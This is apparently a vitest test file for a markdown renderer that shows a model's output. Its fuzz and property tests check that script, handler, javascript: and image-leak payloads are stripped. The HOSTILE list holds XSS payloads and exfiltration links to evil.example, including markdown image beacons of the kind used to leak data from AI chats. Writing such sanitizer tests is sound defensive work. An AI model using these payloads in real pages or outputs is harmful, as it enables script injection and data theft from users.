// @vitest-environment happy-dom
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { finishedUntil, markdownToHtml } from './markdown'

function shown(text: string): HTMLElement {
  const element = document.createElement('div')
  element.innerHTML = markdownToHtml(text)
  return element
}

const HOSTILE = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<iframe src="javascript:alert(1)"></iframe>', '<style>*{display:none}</style>', '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)', '[x]( javascript:alert(1))', '[x](&#106;avascript:alert(1))', '<javascript:alert(1)>',
  '![x](https://evil.example/leak?x=1)', '![x](data:image/svg+xml;base64,PHN2Zz4=)', '![x][1]\n\n[1]: https://evil.example/leak', '[![x](https://evil.example/p.png)](https://evil.example)', '`<b>`</code><script>x</script>', '<p style="background:url(https://evil.example)">',
  '[x](https://a.example "onmouseover=alert(1)")', '[x](//evil.example)', '<form action=https://evil.example><input name=q>', '| a |\n|---|\n| <img src=https://evil.example/x> |', '```html\n<script>alert(1)</script>\n```',
]

describe('markdown of a model', () => {
  it.each(HOSTILE)('can neither act nor fetch: %s', (text) => {
    const element = shown(text)
    expect([...element.querySelectorAll('script, img, svg, iframe, style, form, input, link, object, embed, video, audio, base, meta')]).toEqual([])
    for (const one of element.querySelectorAll('*')) {
      for (const { name, value } of one.attributes) {
        expect(['href', 'rel', 'target', 'start']).toContain(name)
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/i)
      }
    }
  })
  it('is harmless whatever pieces it is put together from', () => {
    const piece = fc.oneof(fc.constantFrom(...HOSTILE, '\n\n', '> ', '- ', '```', '`', '<', '>', '"', '](', '![', '[', '\\'), fc.string({ maxLength: 8 }))
    fc.assert(fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const element = shown(pieces.join(''))
      expect(element.querySelector('script, img, svg, iframe, style, form, input')).toBeNull()
      for (const link of element.querySelectorAll('a')) expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/i)
      expect([...element.querySelectorAll('*')].some(one => [...one.attributes].some(({ name }) => name.startsWith('on') || name === 'style'))).toBe(false)
    }), { numRuns: 60 })
  })
  it('keeps what people write markdown for', () => {
    const element = shown('# Title\n\n- one\n- **two**\n\n[site](https://example.org) `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect([element.querySelector('h1')?.textContent, element.querySelectorAll('li').length, element.querySelector('strong')?.textContent, element.querySelector('td')?.textContent]).toEqual(['Title', 2, 'two', '1'])
    expect(element.querySelector('a')?.getAttribute('rel')).toContain('noopener')
  })
  it('makes an image a link that a person may follow', () => {
    const element = shown('![the chart](https://example.org/chart.png)')
    expect([element.querySelector('a')?.textContent, element.querySelector('a')?.getAttribute('href')]).toEqual(['the chart', 'https://example.org/chart.png'])
  })
})

describe('markdown that is still forming', () => {
  it('is read up to its last finished block, never within a fence', () => {
    const finished = (text: string) => text.slice(0, finishedUntil(text))
    expect(finished('# One\n\nTwo th')).toBe('# One\n\n')
    expect(finished('```\na\n\nb')).toBe('')
    expect(finished('```\na\n\nb\n```\n\nc')).toBe('```\na\n\nb\n```\n\n')
    expect(finished('no block')).toBe('')
  })
  it('never reaches beyond the text', () => {
    fc.assert(fc.property(fc.string(), (text) => { expect(finishedUntil(text)).toBeLessThanOrEqual(text.length) }))
  })
})
